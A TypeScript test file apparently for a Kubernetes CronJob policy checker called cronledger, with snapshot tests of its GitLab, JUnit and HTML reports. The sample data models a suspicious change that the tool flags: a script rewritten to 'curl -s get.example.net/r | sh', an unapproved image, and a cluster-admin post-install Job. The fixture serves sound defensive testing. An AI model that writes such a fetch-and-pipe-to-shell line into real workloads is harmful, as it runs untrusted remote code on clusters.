// GitLab, JUnit and HTML; that they are well-formed is tested with the other formats.
import { createHash } from 'node:crypto';
import { expect, test } from 'vitest';
import { gitlabFormat } from '../../src/report/gitlab.ts';
import { htmlFormat } from '../../src/report/html.ts';
import { junitFormat } from '../../src/report/junit.ts';
import { harmlessCheckReport, sampleCheckReport, sampleListReport } from '../support/sample-report.ts';
import { readMarkup } from './readers/markup-tags.ts';

test('GitLab: worst first, what could not be checked as well', () => {
  const issues = JSON.parse(gitlabFormat.render(sampleCheckReport()));
  const lines = issues.map(
    (issue: { severity: string; check_name: string; location: { path: string; lines: { begin: number } } }) =>
      `${issue.severity} ${issue.check_name} ${issue.location.path}:${issue.location.lines.begin}`,
  );
  expect(lines).toMatchInlineSnapshot(`
    [
      "blocker image-registry-not-allowed apps/billing/nightly-report.yaml:19",
      "blocker job-not-in-inventory charts/tools/templates/cleanup.yaml:3",
      "critical schedule-too-frequent apps/billing/nightly-report.yaml:7",
      "major run-as-root charts/tools/values.yaml:4",
      "minor inventory-expired .cronledger/inventory/shop.yaml:31",
      "info schedule-too-frequent apps/ops/queue-drain.yaml:6",
      "blocker render-failed charts/api:1",
    ]
  `);
  expect(issues[0]).toEqual({
    description:
      'The image `docker.io/acme-tools/report:latest` of container `report` is not from an allowed repository. Use an image that `images.allow` in the config matches.',
    check_name: 'image-registry-not-allowed',
    fingerprint: expect.stringMatching(/^[0-9a-f]{64}$/),
    severity: 'blocker',
    location: { path: 'apps/billing/nightly-report.yaml', lines: { begin: 19 } },
  });
});

test('JUnit: a violation', () => {
  expect(junitFormat.render(sampleCheckReport())).toMatchInlineSnapshot(`
    "<?xml version="1.0" encoding="UTF-8"?>
    <testsuites name="cronledger" tests="10" failures="4" errors="1">
      <testsuite name="cronledger check" tests="10" failures="4" errors="1" skipped="0">
        <testcase classname="apps/billing/nightly-report.yaml" name="CronJob billing/nightly-report: image-registry-not-allowed">
          <failure type="image-registry-not-allowed" message="The image \`docker.io/acme-tools/report:latest\` of container \`report\` is not from an allowed repository.">apps/billing/nightly-report.yaml:19:22 (critical)
    The image \`docker.io/acme-tools/report:latest\` of container \`report\` is not from an allowed repository.
    Fix: Use an image that \`images.allow\` in the config matches.</failure>
        </testcase>
        <testcase classname="apps/billing/nightly-report.yaml" name="CronJob billing/nightly-report: schedule-too-frequent">
          <failure type="schedule-too-frequent" message="CronJob \`billing\`/\`nightly-report\` runs every minute; the shortest interval allowed is 5 minutes.">apps/billing/nightly-report.yaml:7:13 (high)
    CronJob \`billing\`/\`nightly-report\` runs every minute; the shortest interval allowed is 5 minutes.
    Fix: Run it less often, or ask for an exception in its inventory entry.</failure>
        </testcase>
        <testcase classname="charts/tools/templates/cleanup.yaml" name="Job kube-system/node-cleanup: job-not-in-inventory">
          <failure type="job-not-in-inventory" message="Job \`kube-system\`/\`node-cleanup\` is not in the inventory of approved scheduled workloads.">charts/tools/templates/cleanup.yaml:3:3 (in the template) (critical)
    Job \`kube-system\`/\`node-cleanup\` is not in the inventory of approved scheduled workloads.
    Fix: Remove it, or write its entry with \`cronledger inventory add\` and have the entry approved.</failure>
        </testcase>
        <testcase classname="charts/tools/values.yaml" name="Job kube-system/node-cleanup: run-as-root">
          <system-out>charts/tools/values.yaml:4:1 (in the values) (medium)
    Container \`cleanup\` may run as root.
    Fix: Set \`securityContext.runAsNonRoot\`.</system-out>
        </testcase>
        <testcase classname="apps/ops/queue-drain.yaml" name="CronJob ops/queue-drain: schedule-too-frequent">
          <system-out>apps/ops/queue-drain.yaml:6:13 (high)
    CronJob \`ops\`/\`queue-drain\` runs every minute; the shortest interval allowed is 5 minutes.
    An exception in the inventory covers it until 2027-01-01: The queue must be drained every minute.</system-out>
        </testcase>
        <testcase classname="apps/ops/legacy.yaml" name="CronJob ops/legacy-sync is removed"/>
        <testcase classname=".cronledger/inventory/shop.yaml" name="inventory-expired">
          <system-out>.cronledger/inventory/shop.yaml:31:5 (low)
    The entry of CronJob \`shop\`/\`prices\` expires on 2026-12-20.
    Fix: Renew it with \`cronledger inventory update\`, or remove the workload.</system-out>
        </testcase>
        <testcase classname="approvals" name="platform security">
          <failure type="approval-needed" message="This change may merge if approved by platform security (2 of @acme/platform-security and @carol).">This change may merge if approved by platform security (2 of @acme/platform-security and @carol).
    Job \`kube-system\`/\`node-cleanup\` (new)</failure>
        </testcase>
        <testcase classname="approvals" name="the owner of the workload">
          <system-out>This change may merge if approved by the owner of the workload (@acme/billing).
    CronJob \`billing\`/\`nightly-report\` (schedule, command, image-source)</system-out>
        </testcase>
        <testcase classname="charts/api" name="render-failed">
          <error type="render-failed" message="\`helm template\` stopped: values.yaml has no key \`image.tag\`.">\`helm template\` stopped: values.yaml has no key \`image.tag\`.
    Fix: Mend the chart, or name its values files under \`sources\` in the config.</error>
        </testcase>
      </testsuite>
    </testsuites>
    "
  `);
});

test('JUnit: a list passes but for what could not be read', () => {
  const { tags } = readMarkup(junitFormat.render(sampleListReport()));
  expect(tags[0]?.attributes).toEqual({ name: 'cronledger', tests: '5', failures: '0', errors: '1' });
});

test('HTML: allows its own style and nothing else', () => {
  const page = htmlFormat.render(sampleCheckReport());
  const style = /<style>(.*)<\/style>/s.exec(page)?.[1] ?? '';
  const hash = createHash('sha256').update(style).digest('base64');
  expect(page).toContain(
    `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'sha256-${hash}'; base-uri 'none'; form-action 'none'">`,
  );
  expect(style).toContain('color-scheme: light dark');
  expect(page).not.toMatch(/<script|https?:|url\(|@import| on[a-z]+=/);
});

test('HTML: says what the other formats say', () => {
  const { text } = readMarkup(htmlFormat.render(sampleCheckReport()), ['meta', 'br'], ['style']);
  expect(text.replace(/\n+/g, '\n').trim()).toMatchInlineSnapshot(`
    "Cronledger: Violation: 3 findings block this change, 1 approval is missing and 1 thing could not be checked.
    Violation: 3 findings block this change, 1 approval is missing and 1 thing could not be checked.
    Compared origin/main (3f2a9c1b7d04) with HEAD (9b1c7d2e0a3f).
    7 files changed, 5 files read, 6 workloads checked. 2 workloads that this change does not touch are not in the inventory. 3 files: 1 manifest, 1 input of 1 rendering, 1 inert. 6 findings: 3 block, 1 is covered by an exception.
    What to do
    Mend what could not be checked; each problem says how.
    Mend what blocks; each finding says how.
    Where the manifests are right, bring the inventory into line and commit it:cronledger inventory add Job/kube-system/node-cleanup
    Ask for the missing approvals: @acme/platform-security.
    Approvals
    missing: platform security (2 of @acme/platform-security and @carol), approved by @carolJob kube-system/node-cleanup (new)@mallory does not count: opened this pull request.May still be given by @acme/platform-security.The members of @acme/platform-security cannot be read.
    given: the owner of the workload (@acme/billing), approved by @aliceCronJob billing/nightly-report (schedule, command, image-source)
    CronJob billing/nightly-report changes its schedule, image source, command and environment
    At apps/billing/nightly-report.yaml:1:1
    FieldBeforeAfter
    schedule0 2 * * * — At 02:00 (Etc/UTC)*/1 * * * * — Every minute (Etc/UTC)
    containers[0].imageghcr.io/acme/report:1.4.2docker.io/acme-tools/report:latest
    ConfigMap report-scripts: run.shcurl -s get.example.net/r | sh
    backoffLimitabsent0
    critical, blocks image-registry-not-allowed at apps/billing/nightly-report.yaml:19:22The image docker.io/acme-tools/report:latest of container report is not from an allowed repository.Fix: Use an image that images.allow in the config matches.
    high, blocks schedule-too-frequent at apps/billing/nightly-report.yaml:7:13CronJob billing/nightly-report runs every minute; the shortest interval allowed is 5 minutes.Fix: Run it less often, or ask for an exception in its inventory entry.
    Job kube-system/node-cleanup is new
    At charts/tools/templates/cleanup.yaml:3:3 (in the template), environment prod
    runsonce
    imagealpine:3
    service accountcluster-admin
    hookhelm.sh/hook: post-install
    sourcehelm charts/tools (release tools, values.yaml)
    critical, blocks job-not-in-inventory at charts/tools/templates/cleanup.yaml:3:3 (in the template)Job kube-system/node-cleanup is not in the inventory of approved scheduled workloads.Fix: Remove it, or write its entry with cronledger inventory add and have the entry approved.
    medium run-as-root at charts/tools/values.yaml:4:1 (in the values)Container cleanup may run as root.Fix: Set securityContext.runAsNonRoot.
    CronJob ops/queue-drain changes its image version
    At apps/ops/queue-drain.yaml:1:1
    FieldBeforeAfter
    containers[0].imageghcr.io/acme/drain:6ghcr.io/acme/drain:7
    excepted schedule-too-frequent at apps/ops/queue-drain.yaml:6:13CronJob ops/queue-drain runs every minute; the shortest interval allowed is 5 minutes.An exception in the inventory covers it until 2027-01-01: The queue must be drained every minute.
    CronJob ops/legacy-sync is removed
    At apps/ops/legacy.yaml:1:1
    runs@hourly — Every hour
    imageghcr.io/acme/sync:2.0
    service accountdefault
    Other findings
    low inventory-expired at .cronledger/inventory/shop.yaml:31:5The entry of CronJob shop/prices expires on 2026-12-20.Fix: Renew it with cronledger inventory update, or remove the workload.
    Could not be checked
    render-failed at charts/apihelm template stopped: values.yaml has no key image.tag.Fix: Mend the chart, or name its values files under sources in the config."
  `);
});

test('HTML: a pass is of its own colour', () => {
  expect(htmlFormat.render(harmlessCheckReport())).toContain('<body class="pass">');
});
